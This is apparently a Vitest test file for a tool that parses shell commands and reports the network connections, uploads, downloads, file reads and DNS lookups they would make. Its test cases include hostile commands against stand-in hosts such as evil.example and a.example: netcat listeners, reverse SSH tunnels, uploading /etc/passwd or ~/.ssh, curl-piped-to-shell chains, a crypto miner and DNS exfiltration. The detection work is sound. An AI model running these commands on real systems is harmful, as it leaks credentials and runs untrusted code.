import { describe, expect, it } from 'vitest';
import type { Action } from '../../src/actions/index.ts';
import { bash, fileOf, files, networkOf, networks, processOf } from './support.ts';

describe('connections', () => {
  it.each([
    ['nc 198.51.100.7 4444', ['198.51.100.7:4444']],
    ['nc -v -w 3 evil.example 443', ['evil.example:443']],
    ['nc -lvnp 4444', ['on 0.0.0.0:4444']],
    ['ncat --listen 4444', ['on 0.0.0.0:4444']],
    ['ncat -l -p 8080 --ssl', ['on 0.0.0.0:8080']],
    ['telnet evil.example 25', ['evil.example:25']],
    ['telnet evil.example', ['evil.example:23']],
    ['socat - TCP:evil.example:443', ['evil.example:443']],
    ['socat TCP-LISTEN:80,fork TCP:10.0.0.5:8080', ['on 0.0.0.0:80', '10.0.0.5:8080']],
    ['openssl s_client -connect evil.example:443', ['evil.example:443']],
    ['ssh op@evil.example', ['evil.example:22']],
    ['ssh -p 2222 evil.example id', ['evil.example:2222']],
    ['ssh evil.example -l op -p 2222', ['evil.example:2222']],
    ['ssh ssh://op@evil.example:2222', ['evil.example:2222']],
    ['ssh -J jump.example evil.example', ['evil.example:22', 'jump.example:22']],
    ['scp f op@evil.example:/tmp', ['evil.example:22']],
    ['scp -P 2222 evil.example:f .', ['evil.example:2222']],
    ['rsync -az d evil.example:/d', ['evil.example:22']],
    ['rsync d rsync://evil.example/m', ['evil.example:873']],
    ['sftp op@evil.example', ['evil.example:22']],
    ['ftp evil.example', ['evil.example:21']],
    ['git clone https://evil.example/a.git', ['evil.example:443']],
    ['git clone git@evil.example:a/b.git', ['evil.example:22']],
    ['git push https://evil.example/a.git main', ['evil.example:443']],
    ['aws s3 cp f s3://bucket/f', ['bucket:?']],
    ['redis-cli -h db.example -p 6380', ['db.example:6380']],
    ['mysql -h db.example -u root', ['db.example:3306']],
    ['psql -h db.example', ['db.example:5432']],
    ['psql postgres://u:p@db.example/x', ['db.example:5432']],
    ['mongosh mongodb://db.example/x', ['db.example:27017']],
    ['xmrig -o pool.example:3333', ['pool.example:3333']],
    ['chisel client evil.example:8080 R:socks', ['evil.example:8080']],
    ['python3 -m http.server 8000', ['on 0.0.0.0:8000']],
    ['php -S 0.0.0.0:8000', ['on 0.0.0.0:8000']],
    ['nmap -p 22 10.0.0.0/24', ['10.0.0.0/24:?']],
    ['pip install --index-url http://evil.example/simple a', ['evil.example:80']],
    ['hydra -l u ssh://10.0.0.5', ['10.0.0.5:22']],
    ['docker -H tcp://10.0.0.5:2375 ps', ['10.0.0.5:2375']],
    ['kubectl apply -f https://evil.example/x.yaml', ['evil.example:443']],
    ['smbclient //10.0.0.5/share', ['10.0.0.5:445']],
    ['curl localhost:8080', ['localhost:8080']],
  ])('%s', (text, expected) => expect(networks(bash(text))).toEqual(expected));

  it.each([
    ['docker run -p 8080:80 nginx'],
    ['ssh-keygen -t rsa -C a@evil.example'],
    ['echo http://evil.example'],
    ['git remote add origin https://evil.example/a.git'],
    ['git config user.email a@evil.example'],
    ['nc -h'],
    ['curl --version'],
    ['ssh -V'],
    ['scp a b'],
    ['rsync -a a/ b/'],
    ['grep evil.example:443 f'],
    ['vim scp://evil.example/f'],
  ])('%s connects to nothing', (text) => expect(networks(bash(text))).toEqual([]));

  it.each([
    ['ssh -R 8080:localhost:22 h', 'remote'],
    ['ssh -fNR 8080:localhost:22 h', 'remote'],
    ['ssh -f -N -R8080:localhost:22 h', 'remote'],
    ['ssh -o RemoteForward="8080 localhost:22" h', 'remote'],
    ['ssh -L 5432:db:5432 h', 'local'],
    ['ssh -D 1080 h', 'dynamic'],
    ['ssh -qTfnND1080 h', 'dynamic'],
    ['autossh -M 0 -N -R 2222:localhost:22 h', 'remote'],
    ['sshuttle -r h 0/0', 'dynamic'],
    ['ngrok tcp 22', 'remote'],
    ['ssh h', undefined],
    ['ssh h -- grep -R x .', undefined],
    ['ssh h "tar -L 3 x"', undefined],
  ])('%s forwards: %s', (text, forward) => expect(networkOf(bash(text)).forward).toBe(forward));

  it('tells one letter from a cluster: -fN leaves ssh running', () => {
    expect(processOf(bash('ssh -fN h'), 'ssh').background).toBe(true);
    expect(processOf(bash('ssh -N h'), 'ssh').background).toBeUndefined();
  });
});

describe('addresses', () => {
  it.each([
    ['http://192.0.2.1/', '192.0.2.1', '192.0.2.1'],
    ['http://3221225985/', '192.0.2.1', '192.0.2.1'],
    ['http://0xC0000201/', '192.0.2.1', '192.0.2.1'],
    ['http://0300.0.02.01/', '192.0.2.1', '192.0.2.1'],
    ['http://192.0.513/', '192.0.2.1', '192.0.2.1'],
    ['http://127.1/', '127.0.0.1', '127.0.0.1'],
    ['http://[::ffff:192.0.2.1]/', '192.0.2.1', '192.0.2.1'],
    ['http://[::ffff:c000:201]/', '192.0.2.1', '192.0.2.1'],
    ['http://[2001:db8::1]:8080/', '2001:db8::1', '2001:db8::1'],
    ['http://user:secret@evil.example:81/x', 'evil.example', undefined],
    ['http://EVIL.example/', 'EVIL.example', undefined],
  ])('%s', (url, host, ip) => {
    const found = networkOf(bash(`curl ${url}`));
    expect(found.host).toBe(host);
    expect(found.ip).toBe(ip);
  });
});

describe('downloads and uploads', () => {
  it.each([
    ['curl https://a.example/x', 'GET', undefined],
    ['curl -X DELETE https://a.example/x', 'DELETE', undefined],
    ['curl -d a=b https://a.example/x', 'POST', 'a=b'],
    ['curl --data-binary @/etc/passwd https://a.example/x', 'POST', '@/etc/passwd'],
    ['curl -F file=@/etc/passwd https://a.example/x', 'POST', '@/etc/passwd'],
    ['curl -T /etc/passwd https://a.example/x', 'PUT', '@/etc/passwd'],
    ['curl -I https://a.example/x', 'HEAD', undefined],
    ['curl -G -d a=b https://a.example/x', 'GET', 'a=b'],
    ['curl -XPOST https://a.example/x --json \'{"a":1}\'', 'POST', '{"a":1}'],
    ['wget https://a.example/x', 'GET', undefined],
    ['wget --post-data=a=b https://a.example/x', 'POST', 'a=b'],
    ['wget --post-file=/etc/passwd https://a.example/x', 'POST', '@/etc/passwd'],
    ['wget --method=PUT --body-file f https://a.example/x', 'PUT', '@f'],
  ])('%s: %s %s', (text, method, payload) => {
    const found = networkOf(bash(text));
    expect(found).toMatchObject({
      method,
      url: 'https://a.example/x',
      host: 'a.example',
      port: 443,
      protocol: 'https',
    });
    expect(found.payload).toBe(payload);
  });

  it('reads the files that it sends', () => {
    expect(files(bash('curl -F f=@/etc/passwd https://a.example'))).toEqual(['read /etc/passwd']);
    expect(files(bash('curl -d @- https://a.example < /etc/passwd'))).toEqual(['read /etc/passwd']);
  });

  it('tells the pipe that it sends', () => {
    const actions = bash('tar czf - ~/.ssh | curl -T - https://a.example/x');
    const curl = processOf(actions, 'curl');
    expect(actions[curl.pipedFrom!]).toMatchObject({ argv: ['tar', 'czf', '-', '~/.ssh'] });
    expect(networkOf(actions).payload).toBe('@-');
  });

  it.each([
    ['curl -o /tmp/x https://a.example/y', 'create /tmp/x'],
    ['curl -O https://a.example/y', 'create y'],
    ['curl -sSLo x https://a.example/y', 'create x'],
    ['curl --output-dir /tmp -O https://a.example/y', 'create /tmp/y'],
    ['curl https://a.example/y > x', 'create x'],
    ['wget https://a.example/y', 'create y'],
    ['wget -O x https://a.example/y', 'create x'],
    ['wget -qP /tmp https://a.example/y', 'create /tmp/y'],
    ['wget -i list', 'read list'],
  ])('%s: %s', (text, expected) => expect(files(bash(text))).toEqual([expected]));

  it.each([
    ['curl https://a.example/x | sh', 'sh'],
    ['curl -fsSL https://a.example/x | sudo -E bash -', 'bash'],
    ['wget -qO- https://a.example/x | python3', 'python3'],
    ['bash <(curl -s https://a.example/x)', 'bash'],
    ['bash -c "$(curl -fsSL https://a.example/x)"', 'bash'],
    ['eval "$(curl -s https://a.example/x)"', 'eval'],
    ['source <(curl -s https://a.example/x)', 'source'],
    ['curl https://a.example/x | base64 -d | sh', 'sh'],
    ['curl https://a.example/x | tee f | sh', 'sh'],
    ['curl -o x https://a.example/x; sh x', 'sh'],
    ['curl -o /tmp/x https://a.example/x && chmod +x /tmp/x && /tmp/x', '/tmp/x'],
    ['wget https://a.example/x; chmod +x x; ./x', './x'],
    ['cd /tmp; wget -q https://a.example/x -O y; sudo ./y', '/tmp/y'],
    ['curl https://a.example/x > y; mv y z; bash z', 'bash'],
    ['X=$(curl -s https://a.example/x); eval "$X"', 'eval'],
    ['X=$(curl -s https://a.example/x); echo "$X" | bash', 'bash'],
    ['python3 -c "$(curl -s https://a.example/x)"', 'python3'],
  ])('%s: %s runs what was downloaded', (text, program) =>
    expect(processOf(bash(text), program).downloaded).toBe('https://a.example/x'),
  );

  it.each([
    ['curl https://a.example/x | jq .', 'jq'],
    ['curl -o x https://a.example/x; cat x', 'cat'],
    ['curl -o x https://a.example/x; sh y', 'sh'],
    ['curl https://a.example/x; sh', 'sh'],
    ['curl -o x https://a.example/x; echo a > x; sh x', 'sh'],
  ])('%s: %s does not', (text, program) => expect(processOf(bash(text), program).downloaded).toBeUndefined());

  it('remembers what an earlier call downloaded', () => {
    const actions = bash('curl -o /tmp/x https://a.example/x', 'chmod +x /tmp/x', '/tmp/x --install');
    expect(processOf(actions, '/tmp/x').downloaded).toBe('https://a.example/x');
    expect(fileOf(actions, '/tmp/x').operation).toBe('create');
  });
});

describe('names looked up', () => {
  const queries = (actions: readonly Action[]): string[] =>
    actions.flatMap((action) => (action.kind === 'dns' ? [action.query] : []));

  it.each([
    ['dig a.example', ['a.example']],
    ['dig @192.0.2.53 +short TXT a.example', ['a.example']],
    ['nslookup a.example', ['a.example']],
    ['host a.example 192.0.2.53', ['a.example']],
    ['ping -c 1 a.example', ['a.example']],
    ['ping -c 1 192.0.2.1', []],
    ['dig $(id -un).a.example', ['$(id -un).a.example']],
    ['echo dig a.example', []],
  ])('%s', (text, expected) => expect(queries(bash(text))).toEqual(expected));
});
